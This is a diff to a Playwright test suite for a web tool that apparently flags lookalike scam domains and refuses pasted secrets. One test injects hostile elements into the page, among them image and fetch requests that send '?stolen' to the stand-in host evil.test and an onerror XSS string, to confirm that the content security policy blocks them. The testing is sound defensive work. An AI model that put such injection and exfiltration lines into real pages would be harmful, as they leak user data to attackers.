@@ -40,7 +40,7 @@ def test_each_verdict_is_a_word_and_a_way_on(new_reader: NewReader, root: str) -
     paste(reader, PASTED["lookalike"])
     answer = reader.page.locator("[data-verdict=lookalike]")
     expect(answer).to_have_attribute("data-platform", "okx")
-    assert answer.locator("[data-value] mark").all_text_contents() == ["0", "-support.net"]
+    assert answer.locator("[data-value] mark").all_text_contents() == ["0", "-support", "net"]
     answer.locator("a").last.click()
     reader.page.wait_for_url(f"{reader.base}{root}platforms/okx/")
     assert reader.complaints == []
@@ -75,7 +75,7 @@ def test_secret_is_taken_out_of_the_box_and_goes_nowhere(reader: Reader, secret:
     expect(reader.page.locator("[data-refused]")).to_be_visible()
     expect(reader.page.locator("channel-check textarea")).to_have_value("")
     assert reader.page.locator("[data-verdict]").count() == 0
-    assert not [url for url in requests if not url.endswith(".js")]
+    assert not [url for url in requests if not url.endswith((".js", ".svg"))]
     assert (
         reader.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, location.search, location.hash])") == '[{},{},"",""]'
     )
@@ -147,7 +147,7 @@ def test_injected_code_neither_runs_nor_sends_anything(reader: Reader) -> None:
           const attempt = async (act) => { try { await act(); } catch { stopped.push("thrown"); } };
           add("img", { src: "https://evil.test/?stolen" });
           add("iframe", { src: "https://evil.test/" });
-          add("object", { data: "https://evil.test/" });
+          await attempt(() => { add("object", { data: "https://evil.test/" }); });
           add("link", { rel: "stylesheet", href: "https://evil.test/a.css" });
           await attempt(() => fetch("https://evil.test/?stolen"));
           await attempt(() => { document.body.innerHTML += "<img src=x onerror='window.owned = 1'>"; });
@@ -163,7 +163,7 @@ def test_injected_code_neither_runs_nor_sends_anything(reader: Reader) -> None:
         }"""
     )
     assert tried["owned"] == 0
-    assert {"img-src", "frame-src", "object-src", "style-src-elem", "connect-src", "form-action"} <= set(tried["stopped"])
+    assert {"img-src", "frame-src", "style-src-elem", "connect-src", "form-action", "require-trusted-types-for"} <= set(tried["stopped"])
     assert tried["stopped"].count("thrown") >= 5
     assert [url for url in reader.abroad if "evil" in url and not url.startswith("https://evil.test/")] == []
     assert reader.page.url.endswith("en/issues/account-frozen/")
